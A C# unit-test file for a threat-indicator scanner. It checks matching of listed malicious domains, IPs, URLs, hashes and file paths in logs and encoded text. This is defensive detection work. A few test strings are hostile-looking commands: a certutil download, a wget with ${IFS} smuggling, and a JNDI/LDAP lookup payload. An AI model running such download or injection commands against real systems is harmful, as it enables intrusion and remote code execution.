using Culprit.Knowledge;
using Culprit.Knowledge.Indicators;

namespace Culprit.Tests.Knowledge;

public sealed class IndicatorScannerTests
{
    private const string Md5 = "0cc175b9c0f1b6a831c399e269772661";
    private const string Sha256 = "a70d914bf690898d0737692735e99cea29741bb90360ba26e5c9cad9c59506b2";

    private static readonly IndicatorSet Set = Lists.Of(
        "l", "evil-name.com", "deep.sub.evil-name.com", "45.66.230.5", "45.66.230.6:8443", "45.66.230.7:80", "45.66.230.7:443", "url-host.com/a/b.php", "45.66.230.8/x/gate",
        "/api_of_evil/", "/whole_evil.php", Md5, Sha256, @"c:\programdata\evil\run.dll", @"\evil-loader.exe", "2a02:c207::1", "[2a02:c207::2]:443", "[2a02:c207::8]/x/gate.php", "http://query-host.com?id=77", "xn--bcher-update-dlb.com", "evil.notinany");

    [Theory]
    // Names: what is below them, and nothing beside them.
    [InlineData("evil-name.com", "evil-name.com")]
    [InlineData("www.evil-name.com", "evil-name.com")]
    [InlineData("A.B.EVIL-NAME.COM", "evil-name.com")]
    [InlineData("x.deep.sub.evil-name.com", "deep.sub.evil-name.com")]
    [InlineData("sub.evil-name.com", "evil-name.com")]
    [InlineData("notevil-name.com", "")]
    [InlineData("not-evil-name.com", "")]
    [InlineData("not_evil-name.com", "")]
    [InlineData("évil-name.com éevil-name.com", "")]
    [InlineData("evil-name.com.org", "")]
    [InlineData("evil-name.community", "")]
    [InlineData("evil-name.com-backup", "")]
    [InlineData("name.com", "")]
    [InlineData("evil-name.com.", "evil-name.com")]
    [InlineData("It was evil-name.com, or so.", "evil-name.com")]
    [InlineData("anna@evil-name.com", "evil-name.com")]
    [InlineData("\"https://evil-name.com/\"", "evil-name.com")]
    [InlineData("(evil-name.com)", "evil-name.com")]
    [InlineData("u=http%3A%2F%2Fevil-name.com%2Fx", "evil-name.com")]
    [InlineData("u=%zzevil-name.com", "")]
    [InlineData("..evil-name.com", "evil-name.com")]
    [InlineData("evil-name..com", "")]
    [InlineData(@"\\evil-name.com\share", "evil-name.com")]
    [InlineData(@"HKCU\Domains\evil-name.com\https", "evil-name.com")]
    [InlineData("evil-name.com:8080/x", "evil-name.com")]
    [InlineData("xn--bcher-update-dlb.com", "xn--bcher-update-dlb.com")]
    [InlineData("evil.notinany", "evil.notinany")]
    [InlineData("evil-name.com evil-name.com", "evil-name.com")]
    // Addresses: whole, and with the port where there is one.
    [InlineData("45.66.230.5", "45.66.230.5")]
    [InlineData("to 45.66.230.5.", "45.66.230.5")]
    [InlineData("45.66.230.5:1234", "45.66.230.5")]
    [InlineData("145.66.230.5", "")]
    [InlineData("45.66.230.50", "")]
    [InlineData("1.45.66.230.5", "")]
    [InlineData("45.66.230.5.1", "")]
    [InlineData("45.66.230.05", "")]
    [InlineData("v45.66.230.5", "")]
    [InlineData("::ffff:45.66.230.5;", "45.66.230.5")]
    [InlineData("45.66.230.6", "45.66.230.6:8443")]
    [InlineData("45.66.230.6:8443", "45.66.230.6:8443")]
    [InlineData("45.66.230.6:84", "")]
    [InlineData("45.66.230.7:443", "45.66.230.7:443")]
    [InlineData("2a02:c207:0:0::1", "2a02:c207::1")]
    [InlineData("[2a02:c207::1]:55", "2a02:c207::1")]
    [InlineData("[2a02:c207::2]:443", "[2a02:c207::2]:443")]
    [InlineData("[2a02:c207::2]:444", "")]
    [InlineData("2a02:c207::12", "")]
    [InlineData("45.66.230.6:0", "45.66.230.6:8443")]
    [InlineData("[2a02:c207::2]:0", "[2a02:c207::2]:443")]
    [InlineData("It was 2a02:c207::1.", "2a02:c207::1")]
    // URLs: the host and the beginning of the path.
    [InlineData("http://url-host.com/a/b.php", "url-host.com/a/b.php")]
    [InlineData("GET HTTPS://URL-HOST.com:8443/A/B.PHP?id=1", "url-host.com/a/b.php")]
    [InlineData("url-host.com/a/b.php/c", "url-host.com/a/b.php")]
    [InlineData("url-host.com/a/b.phpx", "")]
    [InlineData("url-host.com/a", "")]
    [InlineData("www.url-host.com/a/b.php", "")]
    [InlineData("http://45.66.230.8:80/x/gate?a", "45.66.230.8/x/gate")]
    [InlineData("http://45.66.230.9/x/gate", "")]
    [InlineData("http://[2a02:c207::8]/x/gate.php?a", "[2a02:c207::8]/x/gate.php")]
    [InlineData("http://[2A02:c207:0::8]:8080/x/gate.php", "[2a02:c207::8]/x/gate.php")]
    [InlineData("http://[2a02:c207::8]/x/gate", "")]
    [InlineData("http://[2a02:c207::9]/x/gate.php", "")]
    [InlineData("2a02:c207::8/x/gate.php", "")]
    [InlineData("http://query-host.com?id=77&x", "query-host.com/?id=77")]
    [InlineData("http://query-host.com:80/?id=77", "query-host.com/?id=77")]
    [InlineData("http://query-host.com?id=777", "")]
    [InlineData("http://query-host.com/x?id=77", "")]
    [InlineData("http://url-host.com./a/b.php", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com.:80/a/b.php", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com../a/b.php", "")]
    [InlineData("http://45.66.230.8./x/gate", "45.66.230.8/x/gate")]
    [InlineData("http://any.notthere./whole_evil.php", "/whole_evil.php")]
    // Paths without a host: of URLs alone, and whole.
    [InlineData("http://any.example.io/api_of_evil/x", "/api_of_evil/")]
    [InlineData("http://any.example.io/whole_evil.php?x=1", "/whole_evil.php")]
    [InlineData("http://any.example.io/whole_evil.php/x", "")]
    [InlineData("http://any.example.io/x/whole_evil.php", "")]
    [InlineData("/whole_evil.php", "")]
    // Hashes: whole.
    [InlineData("MD5=0CC175B9C0F1B6A831C399E269772661,SHA256=" + Sha256 + ",IMPHASH=" + "00000000000000000000000000000000", Md5 + " " + Sha256)]
    [InlineData("0" + Md5, "")]
    [InlineData(Md5 + "z", "")]
    [InlineData("/file/" + Sha256 + "/detection", Sha256)]
    // Files: the end of a path.
    [InlineData(@"""C:\ProgramData\Evil\run.dll"",Start", @"c:\programdata\evil\run.dll")]
    [InlineData(@"D:\ProgramData\Evil\run.dll", "")]
    [InlineData("cmd /c evil-loader.exe -x", "evil-loader.exe")]
    [InlineData(@"C:\Users\a b\evil-loader.exe", "evil-loader.exe")]
    [InlineData("file:///c:/programdata/evil/run.dll", @"c:\programdata\evil\run.dll")]
    [InlineData(@"{""path"":""C:\\ProgramData\\Evil\\run.dll""}", @"c:\programdata\evil\run.dll")]
    [InlineData(@"{\""path\"":\""C:\\\\ProgramData\\\\Evil\\\\run.dll\""}", @"c:\programdata\evil\run.dll")]
    [InlineData(@"{""path"":""C:\/ProgramData\/Evil\/run.dll""}", @"c:\programdata\evil\run.dll")]
    [InlineData(@"C:\\Users\\a b\\evil-loader.exe", "evil-loader.exe")]
    [InlineData("notevil-loader.exe", "")]
    [InlineData("evil-loader.exe.config", "")]
    [InlineData("", "")]
    [InlineData(".", "")]
    [InlineData("....", "")]
    [InlineData(".com", "")]
    public void A_text_holds_what_stands_in_it_for_itself(string text, string expected)
    {
        string[] values = expected.Split(' ', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(values.Select(static v => v + "@l").Order(StringComparer.Ordinal), Set.Found(text));
    }

    [Theory]
    [InlineData("ping%2045.66.230.5", "45.66.230.5")]
    [InlineData("ping%0A45.66.230.5%0a", "45.66.230.5")]
    [InlineData("u=http%3A%2F%2F45.66.230.5%2Fx.sh", "45.66.230.5")]
    [InlineData("jndi%3Aldap%3A%2F%2F45.66.230.6%3A8443%2FBasic%7D", "45.66.230.6:8443")]
    [InlineData("jndi%3Aldap%3A%2F%2F45.66.230.6%3A1389%2FBasic%7D", "")]
    [InlineData("%31145.66.230.5", "")]
    [InlineData("%2545.66.230.5", "")]
    [InlineData("%1.45.66.230.5", "")]
    [InlineData("ip=%202a02:c207::1", "2a02:c207::1")]
    [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A1%5D%2F", "2a02:c207::1")]
    [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A2%5D%3A444%2F", "")]
    [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A8%5D%2Fx%2Fgate.php", "[2a02:c207::8]/x/gate.php")]
    [InlineData("http%3A%2F%2Fquery-host.com%3Fid%3D77", "query-host.com/?id=77")]
    [InlineData("md5=%3D" + Md5, Md5)]
    [InlineData("md5=%20" + Md5 + "%20", Md5)]
    [InlineData("md5=%61" + Md5, "")]
    [InlineData("evil-name%2Ecom", "evil-name.com")]
    [InlineData("%65vil-name.com", "evil-name.com")]
    [InlineData("%61evil-name.com", "")]
    [InlineData("%22evil-name.com%22", "evil-name.com")]
    [InlineData("u=http%253A%252F%252Fevil-name.com%252F", "evil-name.com")]
    [InlineData("u=http%3A%2F%2Furl-host.com%2Fa%2Fb.php%20x", "url-host.com/a/b.php")]
    [InlineData("u=http%3A%2F%2Furl-host.com%3A8080%2Fa%2Fb%2Ephp%22", "url-host.com/a/b.php")]
    [InlineData("u=http%3A%2F%2Furl-host.com%2Fa%2Fb.phpx", "")]
    [InlineData("%22url-host.com/a/b.php", "url-host.com/a/b.php")]
    [InlineData("http://any.example.io/whole%5fevil%2ephp", "/whole_evil.php")]
    [InlineData("http://any.example.io/whole_evil.php%20x", "")]
    [InlineData("http://any.example.io/api_of_evil/%20x", "/api_of_evil/")]
    [InlineData("c%3A%5Cprogramdata%5Cevil%5Crun.dll", @"c:\programdata\evil\run.dll")]
    [InlineData("run=%22evil-loader.exe%22", "evil-loader.exe")]
    [InlineData(@"%TEMP%\evil-loader.exe %%2313 100%", "evil-loader.exe")]
    [InlineData("%", "")]
    [InlineData("%2", "")]
    [InlineData("%2e%2e%2e%2e", "")]
    [InlineData("%ff%fe.%c3", "")]
    public void Characters_that_are_encoded_are_what_they_mean(string text, string expected)
    {
        var scanner = new IndicatorScanner(Set);
        scanner.Scan(text, IndicatorScanner.AnyPort, field: 0);

        Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Lists.Names(scanner));
        Assert.All(scanner.Hits.ToArray(), hit => Assert.InRange(hit.Start + hit.Length, 1, text.Length));
    }

    [Theory]
    // The end of a sentence.
    [InlineData("Failed to download http://url-host.com/a/b.php.", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com/a/b.php: 404", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com/a/b.php! Again", "url-host.com/a/b.php")]
    [InlineData("(http://url-host.com/a/b.php...)", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com/a/b.php., and more", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com/a/b.php.;more", "url-host.com/a/b.php")]
    [InlineData("It asked for http://any.example.io/whole_evil.php.,", "/whole_evil.php")]
    // The space of a query, and what shells read.
    [InlineData(@"cmd=certutil+-urlcache+-f+http://url-host.com/a/b.php+C:\x.exe", "url-host.com/a/b.php")]
    [InlineData("wget${IFS}http://url-host.com/a/b.php${IFS}", "url-host.com/a/b.php")]
    [InlineData("http://url-host.com/a/b.php*", "url-host.com/a/b.php")]
    [InlineData("http://any.example.io/whole_evil.php+x", "")]
    [InlineData("http://url-host.com/a/b.php.bak", "")]
    [InlineData("http://url-host.com/a/b.php:8080", "")]
    [InlineData("http://url-host.com/a/b.php!x", "")]
    [InlineData("It asked for http://any.example.io/whole_evil.php.", "/whole_evil.php")]
    [InlineData("http://any.example.io/whole_evil.php.bak", "")]
    [InlineData(@"http://url-host.com/a/b.php\n", "url-host.com/a/b.php")]
    // Words of scripts without spaces.
    [InlineData("\u6765\u81ea45.66.230.5\u7684\u767b\u5f55", "45.66.230.5")]
    [InlineData("\u6765\u81ea45.66.230.6:8443\u7684\u767b\u5f55", "45.66.230.6:8443")]
    [InlineData("\u5730\u57402a02:c207::1\u306e", "2a02:c207::1")]
    [InlineData("\u54c8\u5e0c" + Md5 + "\u7684", Md5)]
    [InlineData("\u8bbf\u95eeevil-name.com\u5931\u8d25", "evil-name.com")]
    [InlineData("\u30c9\u30e1\u30a4\u30f3evil-name.com\u306b\u63a5\u7d9a", "evil-name.com")]
    [InlineData("evil-name.com\uc5d0\uc11c", "evil-name.com")]
    [InlineData("\u8bbf\u95eewww.evil-name.com\uff0c", "evil-name.com")]
    [InlineData("\u8bbf\u95eenotevil-name.com\u5931\u8d25", "")]
    [InlineData("\u8bbf\u95eeevil-name.com\u5931\u8d25.org", "evil-name.com")]
    [InlineData("\u4e0b\u8f7dhttp://url-host.com/a/b.php\u5931\u8d25", "url-host.com/a/b.php")]
    [InlineData("\u4e0b\u8f7durl-host.com/a/b.php\u3002", "url-host.com/a/b.php")]
    [InlineData("evil-loader.exe\u5931\u8d25", "evil-loader.exe")]
    [InlineData("\u00e945.66.230.5\u00e9", "45.66.230.5")]
    [InlineData("\u04301.45.66.230.5", "")]
    [InlineData("\uff1145.66.230.5", "")]
    [InlineData("45.66.230.5\uff11", "")]
    [InlineData("\u043f\u0443\u0442\u044cevil-name.com", "")]
    [InlineData("evil-name.com\u043f\u0443\u0442\u044c", "")]
    // Source of JSON in a field.
    [InlineData(@"{""log"":""first line\nevil-name.com""}", "evil-name.com")]
    [InlineData(@"{""log"":""a\tb\revil-name.com\r""}", "evil-name.com")]
    [InlineData(@"{""log"":""\n45.66.230.5\t""}", "45.66.230.5")]
    [InlineData(@"{""log"":""\u002645.66.230.5\u0026""}", "45.66.230.5")]
    [InlineData(@"{""log"":""\n2a02:c207::1""}", "2a02:c207::1")]
    [InlineData(@"{""log"":""\n" + Md5 + @"\n""}", Md5)]
    [InlineData(@"{""log"":""\u003d" + Md5 + @"\u003d""}", Md5)]
    [InlineData(@"a\u0026evil-name.com", "evil-name.com")]
    [InlineData(@"a\u0026url-host.com/a/b.php\u0026", "url-host.com/a/b.php")]
    [InlineData(@"a\u0061evil-name.com", "")]
    [InlineData(@"a\u002eevil-name.com", "")]
    [InlineData(@"{""log"":""a\\nevil-name.com""}", "")]
    [InlineData(@"""\\nevil-name.com\share""", "")]
    [InlineData(@"""HKCU\Domains\nevil-name.com""", "")]
    [InlineData(@"""C:\temp\nevil-name.com""", "")]
    [InlineData(@"Domains\nevil-name.com", "")]
    [InlineData(@"{""log"":""\xevil-name.com""}", "")]
    [InlineData(@"""..\nevil-name.com""", "")]
    [InlineData(@"""..\temp\nevil-name.com""", "")]
    [InlineData(@"""...\nevil-name.com""", "evil-name.com")]
    [InlineData(@"C:\app\r45.66.230.5\app.exe", "")]
    [InlineData(@"\\fs\t45.66.230.5\share", "")]
    [InlineData(@"""C:\app\r45.66.230.5\app.exe""", "")]
    [InlineData(@"C:\app\r2a02:c207::1", "")]
    [InlineData(@"C:\app\t" + Md5, "")]
    // Files.
    [InlineData(@"{""log"":""\u0027evil-loader.exe\u0027""}", "evil-loader.exe")]
    [InlineData(@"a\u0027evil-loader.exe", "evil-loader.exe")]
    [InlineData(@"{""log"":""a\nevil-loader.exe""}", "evil-loader.exe")]
    [InlineData(@"{""log"":""a\tC:\\ProgramData\\Evil\\run.dll""}", @"c:\programdata\evil\run.dll")]
    [InlineData(@"""C:\temp\nevil-loader.exe""", "")]
    [InlineData(@"C:\temp\nevil-loader.exe", "")]
    [InlineData("/nevil-loader.exe", "")]
    // A web server's log.
    [InlineData(@"Mozilla \x22evil-name.com\x22", "evil-name.com")]
    [InlineData(@"\x2245.66.230.5\x22", "45.66.230.5")]
    [InlineData(@"\x222a02:c207::1\x22", "2a02:c207::1")]
    [InlineData(@"\x22" + Md5 + @"\x22", Md5)]
    [InlineData(@"\x22evil-loader.exe\x22", "evil-loader.exe")]
    [InlineData(@"\x22http://url-host.com/a/b.php\x22", "url-host.com/a/b.php")]
    [InlineData(@"\x61evil-name.com", "")]
    [InlineData(@"\x2Eevil-name.com", "")]
    [InlineData(@"\xD0\xB0evil-name.com", "")]
    [InlineData(@"\\x22evil-name.com", "")]
    public void What_stands_against_a_value_and_is_none_of_it_hides_nothing(string text, string expected) =>
        Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Set.Found(text));

    [Fact]
    public void A_hit_in_an_encoded_text_says_where_it_is_written()
    {
        const string text = "/x?%C3%A9=%252e&u=%68ttp%3A%2F%2Fevil%2dname%2ecom%2Fx evil-loader.exe";
        var scanner = new IndicatorScanner(Set);
        scanner.Scan(text, IndicatorScanner.AnyPort, field: 0);

        Assert.Equal(["evil%2dname%2ecom", "evil-loader.exe"], scanner.Hits.ToArray().Select(h => text.Substring(h.Start, h.Length)));
    }

    [Theory]
    [InlineData("/USER-\u041f\u041a/almond/prime.asp")]
    [InlineData("/user-%d0%9f%d0%9a/almond/prime.asp")]
    [InlineData("/USER-%D0%9F%D0%9A/almond%2Fprime.asp")]
    public void Paths_are_compared_as_they_are_meant(string listed)
    {
        IndicatorSet set = Lists.Of("l", listed, "evil-name.com/a%20b/%C3%89.php");
        string[] asked = ["/USER-\u041f\u041a/almond/prime.asp", "/USER-%D0%9F%D0%9A/almond/prime.asp?x=1", "/user-%d0%bf%d0%ba/%61lmond/prime%2Easp"];
        foreach (string path in asked)
        {
            var scanner = new IndicatorScanner(set);
            scanner.ScanPath("own.site", path, 0);
            Assert.Single(Lists.Names(scanner));
            Assert.Single(set.Found("http://own.site" + path));
        }

        Assert.Single(set.Found("http://evil-name.com/a%20b/\u00e9.php"));
        Assert.Single(set.Found("http://evil-name.com/a%20b/%c3%a9.php?"));
        Assert.Empty(set.Found("http://own.site/USER-%CF%CA/almond/prime.asp"));
    }

    [Theory]
    [InlineData("45.66.230.6", 8443, "45.66.230.6:8443")]
    [InlineData("45.66.230.6", 443, "")]
    [InlineData("45.66.230.6:8443", 443, "45.66.230.6:8443")]
    [InlineData("45.66.230.7", 443, "45.66.230.7:443")]
    [InlineData("45.66.230.5", 443, "45.66.230.5")]
    public void A_port_that_the_record_gives_must_be_the_indicators(string text, int port, string expected) =>
        Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Set.Found(text, port));

    [Fact]
    public void An_address_that_serves_many_needs_its_port()
    {
        IndicatorSet set = Lists.Of("l", "204.79.197.200:8443", "45.66.230.6:8443");

        Assert.Empty(set.Found("204.79.197.200"));
        Assert.Equal(["204.79.197.200:8443@l"], set.Found("204.79.197.200", 8443));
        Assert.Equal(["45.66.230.6:8443@l"], set.Found("45.66.230.6"));
    }

    [Fact]
    public void Each_list_says_what_it_knows_best()
    {
        IndicatorSet set = Lists.Of(("a.txt", "evil-name.com\nsub.evil-name.com"), ("b.txt", "evil-name.com\nsub.evil-name.com/x"), ("c.txt", "x.sub.evil-name.com"));

        Assert.Equal(["evil-name.com@b", "sub.evil-name.com@a"], set.Found("sub.evil-name.com"));
        Assert.Equal(["sub.evil-name.com/x@b", "sub.evil-name.com@a"], set.Found("http://sub.evil-name.com/x/y"));
        Assert.Equal(["evil-name.com@b", "sub.evil-name.com@a", "x.sub.evil-name.com@c"], set.Found("http://x.sub.evil-name.com/x/y"));
    }

    [Fact]
    public void A_request_has_its_host_and_path_apart()
    {
        var scanner = new IndicatorScanner(Set);
        scanner.ScanPath("url-host.com:443", "/a/b.php", 3);
        scanner.ScanPath("own.site", "/whole_evil.php", 3);
        scanner.ScanPath("", "/x/whole_evil.php", 3);
        scanner.ScanPath("45.66.230.8", "x/gate", 3);

        Assert.Equal(["/whole_evil.php@l", "url-host.com/a/b.php@l"], Lists.Names(scanner));
        Assert.All(scanner.Hits.ToArray(), static hit => Assert.Equal(3, hit.Field));
    }

    [Theory]
    [InlineData("url-host.com.", "/a/b.php", "url-host.com/a/b.php")]
    [InlineData("URL-HOST.com.:443", "/a/b.php", "url-host.com/a/b.php")]
    [InlineData("45.66.230.8:80", "/x/gate", "45.66.230.8/x/gate")]
    [InlineData("[2a02:c207:0::8]:8080", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
    [InlineData("[2a02:c207::8]", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
    [InlineData("2a02:c207::8", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
    [InlineData("2a02:c207::9", "/x/gate.php", "")]
    [InlineData("[::x]:80", "/whole_evil.php", "/whole_evil.php")]
    [InlineData("[::", "/x/gate.php", "")]
    [InlineData(".", "/a/b.php", "")]
    public void A_requests_host_may_be_written_in_several_ways(string host, string path, string expected)
    {
        var scanner = new IndicatorScanner(Set);
        scanner.ScanPath(host, path, 0);

        Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Lists.Names(scanner));
    }

    [Fact]
    public void A_file_path_may_be_listed_as_source_writes_it()
    {
        IndicatorSet set = Lists.Of("l", @"C:\\ProgramData\\Evil\\run.dll");

        Assert.Equal([@"c:\programdata\evil\run.dll@l"], set.Found(@"C:\ProgramData\Evil\run.dll"));
        Assert.Equal([@"c:\programdata\evil\run.dll@l"], set.Found(@"""C:\\ProgramData\\Evil\\run.dll"""));
    }

    [Fact]
    public void Each_indicator_is_found_once_in_a_field_and_in_bounds()
    {
        var scanner = new IndicatorScanner(Set);
        string many = string.Join(' ', Enumerable.Repeat("evil-name.com 45.66.230.5", 100));
        scanner.Scan(many, IndicatorScanner.AnyPort, 1);
        scanner.Scan(many, IndicatorScanner.AnyPort, 2);

        Assert.Equal([(1, 13), (1, 11), (2, 13), (2, 11)], scanner.Hits.ToArray().Select(static h => (h.Field, h.Length)));
        scanner.Forget(1);
        Assert.Equal(1, scanner.Hits.Length);
        scanner.Clear();
        Assert.Equal(0, scanner.Hits.Length);

        IndicatorSet wide = Lists.Of("l", [.. Enumerable.Range(0, 200).Select(static i => $"n{i}-evil.com")]);
        Assert.Equal(IndicatorScanner.MaxHits, wide.Found(string.Join(' ', wide.All().Select(static i => i.Value))).Length);
    }

    [Theory]
    [InlineData(IndicatorScanner.MaxHits, false)]
    [InlineData(IndicatorScanner.MaxHits + 1, true)]
    public void What_finds_no_room_is_known_to_be_there(int count, bool more)
    {
        IndicatorSet set = Lists.Of("l", [.. Enumerable.Range(0, count).Select(static i => $"n{i}-evil.com")]);
        var scanner = new IndicatorScanner(set);

        scanner.Scan(string.Join(' ', set.All().Select(static i => i.Value)), IndicatorScanner.AnyPort, 1);

        Assert.Equal(IndicatorScanner.MaxHits, scanner.Hits.Length);
        Assert.Equal(more, scanner.HasMore);
        scanner.Clear();
        Assert.False(scanner.HasMore);
    }

    [Fact]
    public void What_is_known_needs_no_room()
    {
        IndicatorSet set = Lists.Of("l", [.. Enumerable.Range(0, IndicatorScanner.MaxHits + 1).Select(static i => $"n{i}-evil.com")]);
        string[] values = [.. set.All().Select(static i => i.Value)];
        var scanner = new IndicatorScanner(set);

        scanner.Scan(string.Join(' ', values[..IndicatorScanner.MaxHits]) + " " + values[0], IndicatorScanner.AnyPort, 1);
        Assert.False(scanner.HasMore);

        // The same in another field is something else.
        scanner.Scan(values[0], IndicatorScanner.AnyPort, 2);
        Assert.True(scanner.HasMore);
    }

    [Fact]
    public void What_found_no_room_is_known_while_hits_of_its_text_stay()
    {
        IndicatorSet set = Lists.Of("l", [.. Enumerable.Range(0, IndicatorScanner.MaxHits + 1).Select(static i => $"n{i}-evil.com")]);
        var scanner = new IndicatorScanner(set);
        scanner.Scan(string.Join(' ', set.All().Select(static i => i.Value)), IndicatorScanner.AnyPort, 1);

        scanner.Forget(IndicatorScanner.MaxHits);
        Assert.True(scanner.HasMore);

        scanner.Forget(0);
        Assert.False(scanner.HasMore);
    }

    [Fact]
    public void Text_made_to_be_slow_is_walked_over_a_fixed_number_of_times()
    {
        // Each of these would take a quarter of a million million steps if every token were compared with all before it.
        const int length = 1_000_000;
        string[] hostile =
        [
            string.Concat(Enumerable.Repeat("a.com.", length / 6)), string.Concat(Enumerable.Repeat("url-host.com/", length / 13)), new string('.', length), new string('a', length) + ".com",
            string.Concat(Enumerable.Repeat("evil-loader.exe ", length / 16)), new string('f', length), new string(':', length), string.Concat(Enumerable.Repeat("1.", length / 2)),
            string.Concat(Enumerable.Repeat("://a.com/", length / 9)), string.Concat(Enumerable.Repeat("://a.bc/", length / 8)), "\"" + string.Concat(Enumerable.Repeat("\\tevil-loade.exe", length / 17)), string.Concat(Enumerable.Repeat("\\\\\\a.exe", length / 8)), string.Concat(Enumerable.Repeat("%2f", length / 3)) + "evil-name.com", string.Concat(Enumerable.Repeat("%25", length / 3)), new string('%', length), "url-host.com/" + new string('.', length), string.Concat(Enumerable.Repeat("\u4e2da.com", length / 6)), "\"" + string.Concat(Enumerable.Repeat("\\nevil-name.co", length / 14)),
            new string('\\', length) + "n45.66.230.5",
            string.Concat(Enumerable.Repeat("%20a.com", length / 8)), string.Concat(Enumerable.Repeat("%201.2.3.4", length / 10)), string.Concat(Enumerable.Repeat("%f0%9f%98", length / 9)), string.Concat(Enumerable.Repeat("-a.com", length / 6)),
        ];
        string longest = "/" + new string('p', 1_998) + "/";
        foreach (IndicatorSet set in new[] { Set, Lists.Of("l", [.. Set.All().Select(static i => i.Value), "long-host.com" + longest, longest]) })
        {
            var scan = new TextScan(set, new HitList(set, IndicatorScanner.MaxHits));
            foreach (string text in hostile)
            {
                scan.Hits.Clear();
                scan.Scan(text, IndicatorScanner.AnyPort, 0);
                Assert.InRange(scan.Hits.Count, 0, 2);
                Assert.InRange(scan.Walked, 0, 40 * (long)length);
            }
        }
    }

    [Fact]
    public void Where_urls_within_urls_are_cut_short_there_may_be_more()
    {
        IndicatorSet set = Lists.Of("l", "url-host.com/a/b.php", "long-host.com/" + new string('p', 2_000), "/whole_evil.php");
        string[] nested = ["http://url-host.com/a/b.php?u=http://any.example.io/whole_evil.php", string.Concat(Enumerable.Repeat("://a.bc/", 10_000))];
        var scanner = new IndicatorScanner(set);

        scanner.Scan(nested[0], IndicatorScanner.AnyPort, 0);
        Assert.Equal((2, false), (scanner.Hits.Length, scanner.HasMore));
        scanner.Clear();
        scanner.Scan(nested[1] + " " + nested[0], IndicatorScanner.AnyPort, 0);
        Assert.Equal((2, true), (scanner.Hits.Length, scanner.HasMore));
        scanner.Clear();
        scanner.Scan(nested[0], IndicatorScanner.AnyPort, 0);
        Assert.Equal((2, false), (scanner.Hits.Length, scanner.HasMore));
    }

    [Fact]
    public void Text_that_holds_nothing_costs_no_memory()
    {
        var scanner = new IndicatorScanner(Set);
        const string text = @"%20x %2F%c3%a9 ""C:\Program Files\App 1.2.3.4\app.exe"" --url https://www.some-site.com/a?b=c --ip 10.1.2.3:80 0123456789abcdef0123456789abcdef fe80::1";
        long allocated = long.MaxValue;
        for (int attempt = 0; attempt < 10 && allocated > 0; attempt++)
        {
            long before = GC.GetAllocatedBytesForCurrentThread();
            for (int i = 0; i < 1000; i++)
            {
                scanner.Clear();
                scanner.Scan(text.AsSpan(0, text.Length - 8), IndicatorScanner.AnyPort, 0);
            }

            allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        }

        Assert.Equal(0, allocated);
        Assert.Equal(0, scanner.Hits.Length);
    }
}
